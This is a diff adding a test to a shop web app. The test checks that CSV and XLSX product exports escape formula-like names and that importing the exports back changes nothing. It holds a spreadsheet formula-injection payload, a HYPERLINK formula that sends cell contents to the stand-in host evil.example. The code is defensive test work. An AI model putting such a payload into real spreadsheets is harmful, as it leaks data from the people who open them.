@@ -294,3 +294,30 @@ def test_an_upload_left_unconfirmed_expires_after_a_day(app, client, shop_world)
     upload(client, shop_world["bakery"], "Produit;Prix\nPain;2,40\n", "aujourdhui.csv")  # clears the forgotten ones
     with app.app_context():
         assert [u.filename for u in PendingUpload.query] == ["aujourdhui.csv"]
+
+
+def test_exports_neutralise_formula_like_names_and_import_them_back_unchanged(app, client, shop_world):
+    """A product named like a formula is text in both exports (quoted in CSV, a string cell in
+    XLSX), and importing either export back changes nothing."""
+    import csv
+
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
+    with app.app_context():
+        product = db.session.get(Product, shop_world["bread"])
+        product.name, product.description = hostile, "@SUM(1)"
+        db.session.commit()
+    login(client, shop_world["emails"]["staff"])
+    exported = client.get(f"/boutique/{shop_world['bakery']}/export.csv").data
+    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert rows[1][1] == "'" + hostile and rows[1][7] == "'@SUM(1)" and rows[1][3] == "2,40"
+    workbook = client.get(f"/boutique/{shop_world['bakery']}/export.xlsx").data
+    sheet = load_workbook(io.BytesIO(workbook)).active
+    assert (sheet["B2"].value, sheet["B2"].data_type) == (hostile, "s")
+    assert (sheet["H2"].value, sheet["H2"].data_type) == ("@SUM(1)", "s")
+    assert (sheet["D2"].value, sheet["D2"].data_type) == (2.4, "n")
+    with app.app_context():
+        shop = db.session.get(Shop, shop_world["bakery"])
+        for name, data in (("export.csv", exported), ("export.xlsx", workbook)):
+            table = product_import.read_table(data, name)
+            plan = product_import.check_import(table, product_import.propose_mapping(table.headers), shop)
+            assert (plan.creations, plan.updates, plan.unchanged) == (0, 0, 1), name
